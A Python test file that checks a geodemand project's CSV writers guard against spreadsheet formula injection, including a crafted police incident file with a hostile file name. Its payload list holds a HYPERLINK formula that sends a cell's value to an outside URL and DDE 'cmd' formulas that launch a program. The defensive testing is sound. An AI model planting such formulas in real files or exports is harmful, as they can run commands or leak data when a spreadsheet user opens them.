"""CSV outputs are safe to open in a spreadsheet: no text cell runs as a formula."""

from __future__ import annotations

import base64
import csv
import json
import os
import re

import numpy as np
import pandas as pd
import pytest

from geodemand._spreadsheet import FORMULA_START, spreadsheet_safe, write_csv

PAYLOADS = [
    '=HYPERLINK("http://example.org/?"&A2,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
HARMLESS = ["On or near Park Road", "-5", "+3.2e4", "-0.25", ".5", "1e-3", "", "a=b", " =1"]


NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell: a formula when it begins with = + - @ (or a
    tab or carriage return), unless it is a plain number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_formula_cells_get_an_apostrophe_and_nothing_else_changes():
    text = PAYLOADS + HARMLESS
    frame = pd.DataFrame({
        "label": pd.Series(text, dtype="str"),
        "mixed": pd.Series([*text[:-2], None, np.nan], dtype=object),
        "count": np.arange(len(text)),
        "harm": np.linspace(-1.0, 1.0, len(text)),
    })
    safe = spreadsheet_safe(frame)
    assert safe is not frame and list(safe.dtypes) == list(frame.dtypes)
    expected = ["'" + p for p in PAYLOADS] + HARMLESS
    assert safe["label"].tolist() == expected
    assert safe["mixed"].tolist()[:-2] == expected[:-2]
    assert safe["mixed"].iloc[-2] is None and np.isnan(safe["mixed"].iloc[-1])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["harm"], frame["harm"])
    assert frame["label"].tolist() == text  # the input is not changed
    # a frame with nothing to guard is returned as it is
    clean = frame[frame.index >= len(PAYLOADS)]
    assert spreadsheet_safe(clean) is clean
    # every guarded cell, and only those, began with a formula character
    changed = safe["label"] != frame["label"]
    assert all(v[:1] in FORMULA_START for v in frame.loc[changed, "label"])


def test_write_csv_writes_atomically_and_reads_back_as_typed(tmp_path):
    # (pandas does not quote a bare carriage return, so a reader would split that row: the
    # round trip leaves it out; the guard itself is tested above)
    payloads = [p for p in PAYLOADS if "\r" not in p]
    path = tmp_path / "out.csv"
    frame = pd.DataFrame({"label": payloads + HARMLESS, "n": range(len(payloads + HARMLESS))})
    assert write_csv(frame, path) == path
    assert os.listdir(tmp_path) == ["out.csv"]  # no temporary file left
    cells = _cells(path)[2:]
    labels = cells[0::2]
    assert labels == ["'" + p for p in payloads] + HARMLESS
    assert not [c for c in cells if _runs_as_formula(c)]


def test_a_crafted_police_uk_file_gives_csv_outputs_without_formulas(tmp_path, data_dir,
                                                                       monkeypatch):
    """Hostile text in fields and in the file name reaches rejects.csv, the incident export
    and targets.csv guarded; the same run's HTML still shows the label as typed."""
    from geodemand.ingest.incidents import read_incidents
    from geodemand.ingest.write import write_incidents, write_rejects
    from geodemand.jobs.weekly import WeeklyConfig, run_weekly

    src = data_dir / "incidents/leicestershire/2021-11-leicestershire-street.csv.gz"
    frame = pd.read_csv(src, dtype=str, keep_default_na=False).head(3000)
    located = frame["Longitude"] != ""
    hostile = frame.index[located][:400]
    frame.loc[hostile, "Location"] = PAYLOADS[0]
    frame.loc[hostile[:5], "Month"] = PAYLOADS[1]  # rejected: unparseable date
    name = "=cmd.csv"  # read from the working folder: the source_file cells begin with "="
    frame.to_csv(tmp_path / name, index=False)
    monkeypatch.chdir(tmp_path)

    table = read_incidents(name)
    write_rejects(table, tmp_path / "rejects.csv")
    write_incidents(table, tmp_path / "incidents.csv")
    rejects = pd.read_csv(tmp_path / "rejects.csv", dtype=str, keep_default_na=False)
    assert len(rejects) >= 5 and set(rejects["source_file"]) == {"'" + name}
    exported = pd.read_csv(tmp_path / "incidents.csv", dtype=str, keep_default_na=False)
    assert (exported["location_label"] == "'" + PAYLOADS[0]).sum() >= 300
    assert (exported["source_file"] == "'" + name).all()

    bounds = data_dir / "boundaries" / "leicestershire"
    result = run_weekly(WeeklyConfig(
        incidents=(name,), lpu_boundaries=str(bounds / "lpus.geojson"),
        neighbourhood_boundaries=str(bounds / "neighbourhoods.geojson"), tiles="none",
        out=str(tmp_path / "maps")), quiet=True)
    bundle = result.out_dir
    targets = pd.read_csv(bundle / "targets.csv", dtype=str, keep_default_na=False)
    assert targets["label"].str.startswith("'" + PAYLOADS[0]).any()  # + " (LSOA name)"
    for path in bundle.glob("*.csv"):
        for cell in _cells(path):
            assert not _runs_as_formula(cell), (path.name, cell)
    # the map shows the label as typed: the guard belongs to the CSV files only
    html = (bundle / "force.html").read_text(encoding="utf-8")
    encoded = re.search(r'atob\("([A-Za-z0-9+/=]*)"\)', html).group(1)
    shown = base64.b64decode(encoded).decode("utf-8")
    as_json = json.dumps(PAYLOADS[0], ensure_ascii=False)[1:-1]
    assert as_json in shown and "'" + as_json not in shown


@pytest.mark.parametrize("value", ["-5", "+3.2e4", "-0.25", "1e-3", "-.5"])
def test_plain_numbers_stay_numbers(value):
    frame = pd.DataFrame({"v": pd.Series([value], dtype="str")})
    assert spreadsheet_safe(frame) is frame
